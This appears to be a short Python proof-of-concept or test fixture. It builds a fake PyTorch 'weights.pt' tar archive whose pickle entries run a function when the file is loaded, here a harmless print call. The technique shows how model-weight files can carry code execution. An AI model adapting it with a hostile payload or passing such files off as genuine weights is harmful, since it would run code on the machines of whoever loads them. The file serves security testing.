import builtins
import pickle
import zipfile

import torch


class Evil:
    def __reduce__(self):
        return builtins.print, ("ESCAPED code of a pickle", )

import io
import tarfile

with tarfile.open("weights.pt", "w") as archive:
    for name in ("pickle", "storages", "tensors"):
        content = pickle.dumps(Evil())
        entry = tarfile.TarInfo(name)
        entry.size = len(content)
        archive.addfile(entry, io.BytesIO(content))
